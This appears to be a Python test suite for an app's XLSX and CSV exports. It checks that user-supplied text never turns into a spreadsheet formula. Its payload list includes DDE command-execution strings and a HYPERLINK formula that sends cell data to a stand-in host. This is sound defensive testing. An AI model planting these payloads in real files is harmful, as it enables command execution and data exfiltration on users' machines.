"""Formula injection (issue #7): no user text ever becomes a formula in an export we produce.

Arbitrary text, and text shaped like an attack (« =cmd|' /C calc'!A0 », « @SUM(…) », a
leading tab or CR, full-width ＝), goes into every user-text field of every XLSX and CSV
export; the file is then read back the way a spreadsheet would read it.
"""

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import date
from decimal import Decimal

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.domain.reports.common import qualification_label
from app.domain.reports.dossier import DossierPiece, build_dossier_zip, indicators_csv
from app.domain.reports.targets import Target, TargetKind
from app.domain.enums import ContractType, LegalInstrument, Modality, Sex
from app.domain.liaison.open_needs import OpenNeed, build_open_needs_xlsx
from app.domain.reports import (
    FseParticipant,
    ImpactRow,
    LotFigure,
    build_fse_participants_xlsx,
    build_impact_xlsx,
    build_operations_xlsx,
    compute_figures,
)
from app.domain.timesheets import TemplateLine, build_timesheet_template
from app.domain.documents.xlsx import FORMULA_TRIGGERS, clean_text, csv_safe

HEADS = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "  +", "＝", "﹦", "=cmd|' /C calc'!A0",
         '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")', "@SUM(1+1)", "+SUM(1)", "-2+3", "=1+2",
         "=DDE(\"cmd\";\"/C calc\";\"A1\")", "\t=1+2", "\r=1+2"]
hostile = st.one_of(st.builds(lambda head, tail: head + tail, st.sampled_from(HEADS), st.text(max_size=25)),
                    st.text(max_size=40))
SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
TEMPLATE_SUM = re.compile(r"=SUM\([A-Z]{1,3}\d+:[A-Z]{1,3}\d+\)")


def read_cells(data: bytes) -> list:
    """Return every non-empty cell of every sheet, as openpyxl reads the file back."""
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def assert_text_never_formula(data: bytes, texts, *, own_formula=lambda value: False, exact: bool = True) -> None:
    """No cell is a formula unless we wrote it; each user text comes back, as text, unchanged."""
    cells = read_cells(data)
    formulas = [cell.value for cell in cells if cell.data_type == "f" and not own_formula(cell.value)]
    assert not formulas, formulas
    strings = [cell.value for cell in cells if cell.data_type == "s"]
    for text in texts:
        cleaned = clean_text(text)
        if not cleaned:
            continue
        found = cleaned in strings if exact else any(cleaned in value for value in strings)
        assert found, f"{text!r} absent ou transformé"


@SETTINGS
@given(st.lists(st.tuples(hostile, hostile, hostile), min_size=1, max_size=4), hostile, hostile)
def test_timesheet_template_names_and_lots_stay_text(lines, structure, siret):
    data = build_timesheet_template(structure, siret, "2026-03", [TemplateLine(*line) for line in lines])
    texts = [value for line in lines for value in line]
    assert_text_never_formula(data, texts, own_formula=lambda value: bool(TEMPLATE_SUM.fullmatch(value)))
    assert_text_never_formula(data, [f"Structure : {structure}", f"SIRET : {siret}"],
                              own_formula=lambda value: bool(TEMPLATE_SUM.fullmatch(value)))


@SETTINGS
@given(st.lists(st.lists(hostile, min_size=8, max_size=8), min_size=1, max_size=3), hostile)
def test_open_needs_xlsx_every_text_field_stays_text(fields, title):
    needs = [OpenNeed(company_name=f[0], job_title=f[1], posts=1, start_on=date(2026, 4, 1), contract=f[2],
                      contract_length=f[3], weekly_hours=Decimal(35), workplace=f[4], tender=f[5], lot=f[6],
                      modality="GEIQ", facilitator_contact=f[7]) for f in fields]
    data = build_open_needs_xlsx(needs, title=title, generated_on=date(2026, 3, 1))
    assert_text_never_formula(data, [title, *(value for f in fields for value in f)])


IMPACT_TEXT = ("buyer", "tender_reference", "tender_object", "lot", "cpv", "company_siret", "company_name",
               "siae_siret", "participant_code", "last_name", "first_name", "qualification_level")
BASE_ROW = ImpactRow(buyer="Ville", tender_reference="R", tender_object="O", lot="1", cpv="45000000-7",
                     company_siret="73282932000074", company_name="Entreprise", modality=Modality.ETTI,
                     clause_type=LegalInstrument.CLAUSE_EXECUTION, participant_code="P-1", last_name="Durand",
                     first_name="Camille", sex=Sex.FEMME, birth_date=date(1990, 5, 17),
                     qualification_level="Niveau 3", contract_type=ContractType.MISSION_ETTI,
                     entry_on=date(2026, 1, 5), hours_done=Decimal("70"))


@SETTINGS
@given(st.lists(st.lists(hostile, min_size=len(IMPACT_TEXT), max_size=len(IMPACT_TEXT)), min_size=1, max_size=3),
       hostile, st.booleans())
def test_impact_xlsx_text_columns_stay_text_pseudonymised_or_not(values, title, pseudonymise):
    rows = [replace(BASE_ROW, **dict(zip(IMPACT_TEXT, row))) for row in values]
    data = build_impact_xlsx(rows, compute_figures((), rows), title=title, generated_on=date(2026, 3, 1),
                             pseudonymise=pseudonymise)
    personal = {"last_name", "first_name"} if pseudonymise else set()
    # A qualification code (« 3 », « infra3 ») is printed as its label: the label is what must stay text.
    texts = [qualification_label(value) if field == "qualification_level" else value
             for row in values for field, value in zip(IMPACT_TEXT, row) if field not in personal]
    assert_text_never_formula(data, texts)
    assert_text_never_formula(data, [title], exact=False)  # « Indicateurs — <titre> » on the second sheet
    if pseudonymise:
        names = {clean_text(v) for row in values for f, v in zip(IMPACT_TEXT, row) if f in personal} - {""}
        others = {clean_text(v) for row in values for f, v in zip(IMPACT_TEXT, row) if f not in personal}
        leaked = names - others - {clean_text(title)}
        assert not leaked & {cell.value for cell in read_cells(data)}


@SETTINGS
@given(st.lists(st.lists(hostile, min_size=6, max_size=6), min_size=1, max_size=3), hostile)
def test_operations_xlsx_text_columns_stay_text(values, title):
    lots = [LotFigure(lot_id=i, tender_id=i, operation_id=None, buyer_id=1, company_id=1, buyer=v[0],
                      tender_reference=v[1], tender_object=v[2], lot_label=v[3], cpv=v[4], company=v[5],
                      required=Decimal(500), done=Decimal("70.5"), clause_type=LegalInstrument.CLAUSE_EXECUTION)
            for i, v in enumerate(values)]
    data = build_operations_xlsx(compute_figures(lots, ()), title)
    # The « Lot » column prints the lot's number; the label (v[3]) is not in the list.
    assert_text_never_formula(data, [title, *(value for v in values for i, value in enumerate(v) if i != 3)])


@SETTINGS
@given(st.lists(st.lists(hostile, min_size=7, max_size=7), min_size=1, max_size=3))
def test_fse_participants_xlsx_text_columns_stay_text(values):
    people = [FseParticipant(operation=v[0], participant_code=v[1], last_name=v[2], first_name=v[3],
                             sex=Sex.HOMME, birth_date=date(1988, 1, 2), entry_on=date(2026, 1, 5), phone=v[4],
                             email=v[5], postcode=v[6]) for v in values]
    data = build_fse_participants_xlsx(people, date(2026, 11, 22))
    assert_text_never_formula(data, [value for v in values for value in v])


# --- CSV: what a spreadsheet opening the file sees in each field ---


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_no_formula_field(rows: list[list[str]]) -> None:
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_TRIGGERS), field
            assert not field.lstrip(" ").startswith(FORMULA_TRIGGERS), field


@SETTINGS
@given(hostile)
def test_csv_safe_never_starts_a_formula_and_keeps_the_text(value):
    safe = csv_safe(value)
    assert not safe.startswith(FORMULA_TRIGGERS) and not safe.lstrip(" ").startswith(FORMULA_TRIGGERS)
    assert safe in (value, "'" + value)


piece_name = st.from_regex(r"[=+\-@][A-Za-z0-9 ._|'!()]{0,20}\.pdf", fullmatch=True)


@SETTINGS
@given(st.lists(st.tuples(piece_name, hostile, hostile), min_size=1, max_size=4, unique_by=lambda t: t[0]), hostile)
def test_dossier_manifest_csv_fields_never_start_a_formula(pieces, label):
    dossier = build_dossier_zip([DossierPiece(name, b"%PDF-1.7", proves, target) for name, proves, target in pieces],
                                operation_title="Opération", data_as_of=date(2026, 12, 31),
                                indicators_vs_targets=[Target(label, TargetKind.HOURS, Decimal(10), Decimal(5))])
    with zipfile.ZipFile(io.BytesIO(dossier)) as archive:
        manifest = read_csv(archive.read("manifest.csv"))
        indicators = read_csv(archive.read("indicateurs_vs_cibles.csv"))
    assert_no_formula_field(manifest)
    assert_no_formula_field(indicators)
    for (name, proves, target), row in zip(pieces, manifest[1:]):
        assert row[:3] == [csv_safe(name), csv_safe(proves), csv_safe(target)]
    assert indicators[1][0] == csv_safe(label)


@SETTINGS
@given(st.lists(hostile, min_size=1, max_size=5))
def test_indicators_csv_labels_never_start_a_formula(labels):
    rows = read_csv(indicators_csv([Target(label, TargetKind.PARTICIPANTS, Decimal(3), Decimal(1))
                                    for label in labels]))
    assert_no_formula_field(rows)
    assert [row[0] for row in rows[1:]] == [csv_safe(label) for label in labels]
